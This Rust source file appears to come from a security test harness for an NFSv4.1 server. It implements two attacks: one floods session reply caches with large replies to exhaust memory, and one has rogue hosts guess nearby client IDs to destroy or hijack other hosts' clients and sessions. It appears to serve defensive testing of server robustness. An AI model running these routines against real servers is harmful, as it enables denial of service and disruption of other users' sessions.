//! Attacks on the state of NFSv4.1: reply caches, and the clients and sessions of other hosts.

use std::{
    io::{self, Write},
    sync::atomic::{AtomicBool, AtomicU64, Ordering::Relaxed},
    thread,
    time::Duration,
};

use super::{ADMITTED, ALSO_ADMITTED, Stop, UNADMITTED};
use crate::{
    server::Target,
    wire::{
        Xdr,
        rpc::{connect, exchange, receive, record},
        v4,
    },
};

/// Fills the cached replies, of nearly 4 KiB, of as many slots of as many sessions as there are.
pub fn reply_caches(target: &Target, stop: &Stop) -> io::Result<String> {
    let mut stream = connect(UNADMITTED, target.tcp)?;
    let (mut sessions, mut replies, mut bytes) = (0, 0u64, 0);
    // The result of TEST_STATEID has one word for each stateid.
    let test = Xdr::default().u32(55).u32(STATEIDS).0;
    let stateids = vec![0; STATEIDS as usize * 16];
    for owner in 0..2000u32 {
        if stop.is_now() {
            break;
        }
        let Ok(session) = v4::session(&mut stream, &owner.to_be_bytes()) else { break };
        sessions += 1;
        let calls = (0..session.slots).map(|slot| {
            let call = v4::sequence(slot, &[b't'; 512], &session, slot, 1, 2).fixed(&test).fixed(&stateids);
            record(&call.0)
        });
        let calls: Vec<_> = calls.collect();
        for calls in calls.chunks(8) {
            stream.write_all(&calls.concat())?;
            for _ in calls {
                bytes += receive(&mut stream)?.len();
                replies += 1;
            }
        }
    }
    stop.wait();
    Ok(format!("{sessions} sessions, {replies} replies of {} MiB in all", bytes >> 20))
}

/// One host creates clients and sessions, while another host destroys clients and sessions with IDs near those of its own.
pub fn stolen(target: &Target, stop: &Stop) -> io::Result<String> {
    let (done, guesses) = (AtomicBool::new(false), AtomicU64::new(0));
    let (made, lost) = thread::scope(|scope| {
        let strangers = [1, 2].map(|number| {
            let (done, guesses) = (&done, &guesses);
            scope.spawn(move || while !done.load(Relaxed) && destroy(target, number, done, guesses).is_err() {})
        });
        let ended = victim(target, stop);
        done.store(true, Relaxed);
        for stranger in strangers {
            stranger.join().expect("attacker must not panic");
        }
        ended
    })?;
    let guesses = guesses.load(Relaxed);
    if lost > 0 {
        return Err(io::Error::other(format!(
            "a stranger's {guesses} calls made {lost} of {} session creations fail",
            made + lost
        )));
    }
    Ok(format!("{made} sessions of another, {guesses} guesses"))
}

/// Returns how often a client got its session, and how often its client ID was destroyed before.
fn victim(target: &Target, stop: &Stop) -> io::Result<(u64, u64)> {
    let mut stream = connect(ALSO_ADMITTED, target.tcp)?;
    let (mut made, mut lost) = (0, 0);
    while !stop.is_now() {
        let owner = format!("victim {}", made + lost);
        let results = exchange(&mut stream, &v4::exchange_id(1, 1, owner.as_bytes()))?;
        let (client, sequence) = v4::exchanged(&results).ok_or_else(|| io::Error::other("EXCHANGE_ID is refused"))?;
        // The time that a call takes on a network.
        thread::sleep(Duration::from_millis(1));
        let results = exchange(&mut stream, &v4::create_session(2, client, sequence))?;
        match v4::created(&results, client) {
            Some(session) => {
                // A session that another connection has created cannot be destroyed here.
                let destroyed = exchange(&mut stream, &v4::destroy_session(3, &session.id))?;
                exchange(&mut stream, &v4::destroy_clientid(4, session.client))?;
                if v4::status(&destroyed) == Some(0) { made += 1 } else { lost += 1 }
            }
            None => lost += 1,
        }
    }
    Ok((made, lost))
}

/// Sends DESTROY_CLIENTID or CREATE_SESSION with the client IDs that follow that of its own client.
fn destroy(target: &Target, number: u8, done: &AtomicBool, guesses: &AtomicU64) -> io::Result<()> {
    let mut stream = connect(ADMITTED, target.tcp)?;
    while !done.load(Relaxed) {
        let results = exchange(&mut stream, &v4::exchange_id(1, 1, &[b's', number]))?;
        let (mine, _) = v4::exchanged(&results).ok_or_else(|| io::Error::other("no client"))?;
        let near: Vec<u64> = (1..=16).map(|next| mine.wrapping_add(next)).collect();
        let calls = near.iter().map(|&client| {
            let call = if number == 1 { v4::destroy_clientid(2, client) } else { v4::create_session(2, client, 1) };
            record(&call.0)
        });
        let calls: Vec<_> = calls.collect();
        stream.write_all(&calls.concat())?;
        for _ in &calls {
            receive(&mut stream)?;
            guesses.fetch_add(1, Relaxed);
        }
        exchange(&mut stream, &v4::destroy_clientid(5, mine))?;
    }
    Ok(())
}

/// The number of stateids. With a tag of 512 bytes the reply has nearly 4 KiB.
const STATEIDS: u32 = 840;
